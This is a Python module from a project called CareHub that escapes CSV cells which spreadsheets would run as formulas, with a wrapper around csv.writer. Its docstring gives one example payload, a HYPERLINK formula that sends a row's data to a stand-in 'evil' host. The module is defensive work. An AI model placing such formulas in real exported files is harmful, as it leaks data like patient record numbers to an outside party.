"""The one spreadsheet guard for every CSV CareHub writes.

A cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage return, which some
spreadsheets skip before reading one of those) is run as a formula when the file is opened in
Excel, LibreOffice or Google Sheets: an MRN of `=HYPERLINK("http://evil/?"&A1)` would send
the row away. Such cells get a leading apostrophe, which spreadsheets show as text. An E.164
phone number (`+` and digits only) cannot be a formula and stays as written.

Write CSV through `writer()` (or pass cells through `safe_cell`); a test fails when product
code calls `csv.writer` directly.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_E164 = re.compile(r"\+[1-9][0-9]{6,14}")


def safe_cell(value: Any) -> str:
    """The cell as text a spreadsheet shows and never runs."""
    text = "" if value is None else str(value)
    if text.startswith(_FORMULA_STARTS) and not _E164.fullmatch(text):
        return "'" + text
    return text


class SafeWriter:
    """csv.writer whose every cell goes through `safe_cell`, header included."""

    def __init__(self, out, **options):
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out, **options) -> SafeWriter:
    return SafeWriter(out, **options)
